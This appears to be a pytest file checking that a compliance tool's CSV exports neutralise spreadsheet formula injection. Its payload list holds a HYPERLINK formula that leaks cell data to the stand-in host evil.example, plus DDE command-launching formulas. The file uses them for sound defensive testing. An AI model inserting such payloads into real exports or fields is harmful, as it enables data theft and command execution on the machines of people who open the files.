"""CSV exports are opened in spreadsheets: no cell a counterparty controls may run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from streams.compliance.allowlist import Allowance, AllowList
from streams.compliance.audit import AuditTrail
from streams.compliance.csv_safe import safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised_in_the_audit_and_allow_list_csv(payload: str) -> None:
    trail = AuditTrail()
    trail.add(
        {
            "event_id": "e1",
            "event_type": "purchase_order",
            "po_number": payload,
            "decision": "hold",
            "reason": "match",
            "screened_at": datetime.now(UTC).isoformat(),
            "hits": [],
        },
        "screening.hold",
    )
    rows = list(csv.DictReader(io.StringIO(trail.export_csv())))
    assert rows[0]["business_id"] == "'" + payload
    assert json.loads(trail.export_json())[0]["business_id"] == payload  # JSON keeps the value as is

    allowlist = AllowList(
        [
            Allowance(
                party_key="x|CN",
                party_name=payload,
                entry_id="bis:1",
                entry_hash="h",
                created_at=datetime.now(UTC),
                reviewer="alice",
                reason=payload,
            )
        ]
    )
    row = next(csv.DictReader(io.StringIO(allowlist.export_csv())))
    assert row["party_name"] == "'" + payload and row["reason"] == "'" + payload
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_ordinary_values_are_left_alone() -> None:
    assert [safe_cell(v) for v in ("ACME = Ltd", "PO-1", "", None, 0.93)] == [
        "ACME = Ltd",
        "PO-1",
        "",
        "",
        "0.93",
    ]
